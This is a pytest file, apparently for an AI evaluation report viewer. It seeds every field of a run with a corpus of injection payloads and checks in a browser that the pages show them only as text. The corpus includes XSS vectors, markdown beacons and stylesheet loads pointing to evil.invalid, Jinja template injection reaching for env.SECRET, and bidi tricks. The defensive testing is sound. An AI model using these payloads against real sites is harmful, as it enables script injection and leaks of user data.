"""What a model, a dataset, a judge, a config or a colleague wrote is text on the page, in every field and every view.

One run is made in which every field holds a corpus of attacks; it is looked at from the server and from the file, in
all views and tabs. Whatever the page asks for, runs, opens or refuses fails the test: see `watch`.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageChops

from evenhand.core.case import Case
from evenhand.core.errors import ProviderError
from evenhand.core.expect import Expectation, Trial
from evenhand.core.message import Message, Prompt
from evenhand.core.score import Score
from evenhand.core.variant import Variant
from evenhand.engine import door
from evenhand.engine.capture import user_code
from evenhand.engine.door import Settings
from evenhand.store.labels.label import NewLabel
from evenhand.store.labels.stored_draws import add_draw, set_rule
from evenhand.store.labels.stored_labels import append_labels
from evenhand.testing import Scripted, example_of

MARKUP = (
    "<script>alert('evil-script')</script>",
    "</script><script>alert('evil-close')</script>",
    "]]><script>alert('evil-cdata')</script>",
    "--><script>alert('evil-comment')</script><!--",
    "</textarea></title></style></noscript></template><img src=x onerror=alert('evil-raw')>",
    "<img src=http://evil.invalid/a.png onerror=alert('evil-img') class=pwned>",
    "<svg class=pwned onload=alert('evil-svg')><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert('evil-mxss')></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('evil-math')>",
    "<iframe class=pwned src=javascript:alert('evil-iframe')></iframe>",
    "<iframe class=pwned srcdoc='<script>alert(1)</script>'>evil-srcdoc</iframe>",
    "<object class=pwned data=http://evil.invalid/o></object><embed class=pwned src=http://evil.invalid/e>",
    "<link class=pwned rel=stylesheet href=http://evil.invalid/s.css><base href=http://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>evil-meta",
    "<form class=pwned action=http://evil.invalid/ id=app><button formaction=javascript:alert(1)>evil-form</button>",
    "<details class=pwned open ontoggle=alert('evil-details')><video autoplay onerror=alert(1) src=x>",
    "<style class=pwned>body{display:none;background:url(http://evil.invalid/c.png)}</style>evil-style",
    "<div class=pwned style='position:fixed;inset:0;background:url(http://evil.invalid/b)'>evil-cover</div>",
    "\"><input class=pwned autofocus onfocus=alert('evil-quote')>",
    "' onmouseover='alert(1)' x='evil-attribute",
    "<a class=pwned href='javascript:alert(1)'>evil-link</a>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert('evil-entity')&#60;/script&#62;",
)
MARKDOWN = (
    "[evil-md](javascript:alert(1))",
    "[evil-data](data:text/html,<script>alert(1)</script>)",
    "[evil-tab](java\tscript:alert(1)) [evil-case](JaVaScRiPt:alert(1)) [evil-vb](vbscript:x)",
    "![evil-beacon](http://evil.invalid/beacon.png?q=secret)",
    "![evil-svgdata](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    '[evil-title](http://evil.invalid "\\" onmouseover=alert(1) x=\\"")',
    "<http://evil.invalid/auto> http://evil.invalid/bare evil-auto",
    "[evil-ref]: http://evil.invalid/ref\n\n[evil-ref] ![evil-ref]",
    "```html\n<img src=x onerror=alert('evil-fence')>\n```",
    "| <img src=x onerror=alert(1)> | evil-table |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:1) |",
    "- [ ] <input class=pwned onfocus=alert(1) autofocus> evil-task",
    "$\\href{javascript:alert(1)}{evil-math}$ \\(\\require{html}\\)",
)
TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}} evil-angular",
    "${alert('evil-literal')} `${alert(1)}` #{7*7} <%= 7*7 %> {% raw %}{{7*7}} evil-templates",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {{env.SECRET}} evil-jinja",
    "javascript:alert('evil-address')",
    "data:text/html,<script>alert('evil-data-address')</script>",
    "url(http://evil.invalid/x) expression(alert(1)) @import 'http://evil.invalid/i'; evil-css",
    "__proto__",
    "constructor",
    '=HYPERLINK("http://evil.invalid","evil-formula")',
)
CHARACTERS = (
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.invalid\x07evil-ansi\x1b]8;;\x07",
    "nul \x00 bell \x07 back \x08 delete \x7f c1 \x9b evil-control",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u200f \ufeff evil-bidi",
    "lone \ud800 and \udfff evil-surrogate",
    "لا إله مرحبا بالعالم evil-rtl",
    "line\u2028separator\u2029paragraph\r\nreturn\x0b\x0c evil-breaks",
    "Z̴̘̈a̷l̸g̶o̵ e\u0301\u0301\u0301 👩‍👩‍👧‍👦 🏳️‍🌈 evil-combined",
    "w" * 3000 + " evil-long",
    "\u0338\u20dd" + "\u0e49" * 60 + " evil-stack",
)
CORPUS = MARKUP + MARKDOWN + TEMPLATES + CHARACTERS
ALL = "\n\n".join(CORPUS)
TITLE = MARKUP[1] + CHARACTERS[2] + MARKUP[5] * 20
FOREIGN = """() => {
  const found = [...document.querySelectorAll(
    ".pwned, img, iframe, object, embed, video, audio, math, base, form[action], link[href^=http],"
    + "meta[http-equiv=refresh], [onload], [onerror], [onfocus], [onclick], [onmouseover], [ontoggle],"
    + "[srcdoc], [formaction]"
  )];
  found.push(...[...document.querySelectorAll("a[href]")].filter((a) => !a.getAttribute("href").startsWith("#")));
  found.push(...[...document.querySelectorAll("#app script, #app style")]);
  return found.map((element) => element.outerHTML.slice(0, 300));
}"""


UNSEEN = """() => {
  const unseen = /[\\0-\\x08\\x0b-\\x1f\\x7f-\\x9f\\u061c\\u200b\\u200e\\u200f\\u2028-\\u202e\\u2060-\\u206f\\ufeff]/;
  return [...document.querySelectorAll("#app *")].flatMap((element) => ["title", "aria-label", "label"]
    .filter((name) => unseen.test(element.getAttribute(name) ?? ""))
    .map((name) => `${element.tagName} ${name}`)
    .concat(element.matches("option, .json-hint") && unseen.test(element.textContent) ? [element.outerHTML] : []));
}"""
"""What is told in titles, accessible names and menus without a sign for what cannot be seen."""
SIDEWAYS = """() => [...document.querySelectorAll(".page-scroll, .drawer, .list-main")]
  .filter((at) => at.scrollWidth > at.clientWidth + 1).map((at) => `${at.className} ${at.scrollWidth}`)"""


class Says:
    """A scorer that says what it was told to, in all of its fields."""

    def __init__(self, text: str) -> None:
        self.text = text

    def score(self, output: Any, trial: Any) -> Score:
        if "evil-svg" in self.text and len(self.text) < 200:
            raise ValueError(self.text)
        if "evil-img" in self.text and len(self.text) < 200:
            return Score(None, reason=self.text)
        return Score(
            0.5, passed=False, reason=self.text, named={self.text: 0.5}, metadata=said(self.text)
        )

    def __str__(self) -> str:
        return self.text


def said(text: str) -> dict[str, Any]:
    """A mapping with the text in key and value."""
    return {text: text, "list": [text, {text: text}], "reasoning": text, "judge": text, "raw": text}


def hostile(home: Path) -> str:
    """Makes the run, and labels it; its id."""
    subject = Scripted(lambda prompt: prompt.text, id=MARKUP[5], label=MARKUP[6])
    judge = Scripted(lambda prompt: prompt.text, id=MARKUP[0], label=MARKUP[1])

    async def body(trial: Trial) -> object:
        text = str(trial.case.vars["text"])
        with user_code():
            print(text)  # noqa: T201 (kept as the trial's log)
        shown = Prompt((Message("system", text), Message("user", text)), text, label=text)
        await trial.model(subject, "subject").generate(shown)
        await trial.model(judge, "judge").generate(shown)
        trial.expect(Expectation(text, Says(text), metric=text, at_least=0.9, metadata=said(text)))
        trial.expect(Expectation(text, Says(text), label=text))
        if trial.variant.index == 1:
            return {text: text, "list": [text, [{text: [text]}]]}
        if trial.variant.index == 2 and text != ALL:
            raise ProviderError(text)
        return text

    cases = [
        Case(
            f"{number} {text}",
            {"text": text, text: text},
            expected=text,
            description=text,
            tags=(text,),
            metadata=said(text),
        )
        for number, text in enumerate((ALL, *CORPUS))
    ]
    variants = [
        Variant(index, label, f"{label} model", label, label, {label: label}, label, label)
        for index, label in enumerate(
            (MARKUP[0] + MARKUP[2] + MARKUP[9], MARKDOWN[0] + MARKDOWN[3], CHARACTERS[2])
        )
    ]
    plan = example_of(
        body, cases, variants=variants, providers=(subject, judge), title=TITLE, config=said(ALL),
        source=str(home / MARKUP[20].replace("/", "|")),
    )  # fmt: skip
    path = door.run(plan, Settings(home=home, cache=False, record=said(ALL))).path
    labels: list[NewLabel] = []
    for number, text in enumerate((ALL, *CORPUS)):
        labels.append(NewLabel(3 * number, "note", text, text[:80]))
        labels.append(NewLabel(3 * number, "verdict", "fail", text[:80]))
    append_labels(path, labels)
    add_draw(path, 1, [ALL], 1, [0])
    set_rule(path, ALL, ALL)
    return path.stem


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """A home with two such runs, and their ids, the older one first."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    return home, [hostile(home), hostile(home)]


@pytest.fixture(scope="module", params=["server", pytest.param("file", marks=pytest.mark.thorough)])
def link(
    request: pytest.FixtureRequest,
    poisoned: Any,
    serve: Any,
    command: Any,
    tmp_path_factory: pytest.TempPathFactory,
) -> Any:
    """The page on it: from the server, and as a file."""
    home, runs = poisoned
    if request.param == "file":
        path = tmp_path_factory.mktemp("report") / "report.html"
        command("export", runs[1], "--to", path, "--baseline", runs[0], EVENHAND_HOME=str(home))
        yield path.as_uri()
        return
    with serve(home) as viewer:
        yield viewer.link


def test_text_is_text_in_every_field_and_view(poisoned: Any, link: str, watch: Any):
    """No dialog, no request, no refusal, no element of its own: not in the list, the views, the tabs, the filter."""
    run = poisoned[1][1]
    seen = watch(link, viewport={"width": 1280, "height": 3000})
    seen.expected = ["404 (Not Found)"]  # of a baseline that is none
    page = seen.page
    seen.show()
    assert page.evaluate(FOREIGN) == []
    assert page.evaluate(UNSEEN) == []
    if not seen.embedded:
        seen.turn(tab="texts", q="evil")
        page.locator(".found li").first.wait_for()
        assert page.evaluate(FOREIGN) == []
        assert page.evaluate(UNSEEN) == []
    for state in (
        {},
        {"size": "l", "md": 1},
        {"view": "charts"},
        {"view": "comparison", "base": poisoned[1][0]},
        {"view": "summary"},
        {"view": "history"},
        {"view": "cases"},
        {"view": "prompts"},
        {"view": "about"},
        {"q": ALL},
        {"q": f'tag:"{MARKUP[5]}"', "sort": MARKUP[5], "base": MARKUP[5]},
        {"blind": 1},
    ):
        seen.turn(run, **state)
        page.wait_for_timeout(150)
        assert page.evaluate(FOREIGN) == [], state
        assert page.evaluate(UNSEEN) == [], state
    assert page.evaluate(
        "() => [typeof window.pwned, typeof alert, document.title.length > 0]"
    ) == [
        "undefined",
        "function",
        True,
    ]


@pytest.mark.thorough
def test_text_is_text_in_every_tab_of_a_cell(poisoned: Any, link: str, watch: Any):
    """The cell that holds the whole corpus, as text, as JSON, as an error; and each attack can be read.

    As Markdown from the server, as it was written from the file: who draws a cell doesn't know where it came from.
    """
    run = poisoned[1][1]
    seen = watch(link, viewport={"width": 1280, "height": 2000})
    md = not seen.embedded
    page = seen.page
    read = ""
    for index in (0, 1, 2, 3 * 6 + 2, 3 * 7, 3 * 8):
        seen.turn(run, cell=index, md=int(md) or None, wide=int(md) or None)
        drawer = page.get_by_role("dialog").first
        drawer.wait_for()
        tabs = drawer.get_by_role("tab")
        for number in range(tabs.count()):
            tabs.nth(number).click()
            page.wait_for_timeout(60)
            assert page.evaluate(FOREIGN) == [], (index, number)
            if index == 0:
                read += drawer.evaluate("(element) => element.textContent")
    if not md:
        for text in MARKUP + TEMPLATES:
            assert text in read
    for word in ("evil-md", "evil-beacon", "evil-ansi", "evil-bidi", "evil-surrogate", "evil-long"):
        assert word in read
    assert "\u202e" not in read
    assert "\x1b" not in read


@pytest.mark.thorough
def test_a_very_long_word_does_not_widen_the_page(poisoned: Any, link: str, watch: Any):
    """What cannot be broken is broken, or scrolls in its own place: neither the page nor a view scrolls sideways."""
    run = poisoned[1][1]
    seen = watch(link)
    views = [
        "charts",
        "summary",
        "about",
        *(() if seen.embedded else ("label", "review", "history", "cases", "prompts")),
    ]
    cells = [{"cell": 0, "tab": tab} for tab in ("", "expectations", "prompt", "labels")]
    for state in ({}, {"q": "stauts:" + "x" * 300}, *({"view": view} for view in views), *cells):
        seen.turn(run, **state)
        for width in (320, 1280):
            seen.page.set_viewport_size({"width": width, "height": 800})
            seen.page.wait_for_timeout(60)
            wide = seen.page.evaluate("() => document.documentElement.scrollWidth - innerWidth")
            assert wide <= 0, (state, width)
            assert seen.page.evaluate(SIDEWAYS) == [], (state, width)


@pytest.mark.thorough
def test_a_long_title_or_message_leaves_room_for_the_rest(poisoned: Any, link: str, watch: Any):
    """They are told in a few lines, on a phone too, and whole on demand."""
    seen = watch(link, viewport={"width": 320, "height": 640})
    seen.turn(poisoned[1][1], cell=0)
    title = seen.page.locator(".drawer-case")
    title.get_by_role("button", name="More").wait_for()
    assert title.bounding_box()["height"] < 320
    title.get_by_role("button", name="More").click()
    assert "evil-long" in title.inner_text()
    if not seen.embedded:
        seen.show()
        assert (
            max(box.bounding_box()["height"] for box in seen.page.locator(".run-name a").all())
            < 200
        )


MARKED = "answer e" + "\u0301" * 400
HIDE = """() => {
  const walker = document.createTreeWalker(document.getElementById("app"), NodeFilter.SHOW_TEXT);
  const boxes = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (!node.data.includes("\u0301") || node.parentElement.closest("option")) continue;
    const own = node.parentElement;
    let box = own.closest(".cell-output, .md, .json") ?? own;
    while (getComputedStyle(box).display.startsWith("inline")) box = box.parentElement;
    const { left, top, right, bottom } = box.getBoundingClientRect();
    boxes.push([left, top, right, bottom]);
    own.style.visibility = "hidden";
  }
  return boxes;
}"""


@pytest.mark.thorough
def test_no_text_paints_outside_of_its_box(tmp_path: Path, serve: Any, watch: Any):
    """However many marks a letter has: hidden, the text leaves every pixel around it as it was."""

    async def answers(trial: Trial) -> object:
        trial.expect(Expectation(trial.case.id, Says(MARKED)))
        return f"{MARKED}\n\n{MARKED}"

    home = tmp_path / "home"
    cases = [
        Case(f"{MARKED} {n}", {"asked": MARKED}, description=MARKED, tags=(MARKED,))
        for n in range(3)
    ]
    run = door.run(example_of(answers, cases, title=MARKED), Settings(home=home)).path.stem
    with serve(home) as viewer:
        seen = watch(viewer.link, viewport={"width": 1440, "height": 900}, reduced_motion="reduce")
        for state in ({}, {"run": run}, {"run": run, "cell": 1}, {"run": run, "cell": 1, "md": 1}):
            seen.show(**state)
            before = _picture(seen)
            boxes = seen.page.evaluate(HIDE)
            assert boxes, state
            changed = ImageChops.difference(before, _picture(seen)).point(
                lambda light: light // 32
            )  # corners are drawn a shade lighter now and then
            for left, top, right, bottom in boxes:
                changed.paste(0, (int(left) - 3, int(top) - 3, int(right) + 4, int(bottom) + 4))
            assert changed.getbbox() is None, (state, changed.getbbox())
        seen.close()


def _picture(seen: Any) -> Image.Image:
    return Image.open(io.BytesIO(seen.page.screenshot())).convert("L")
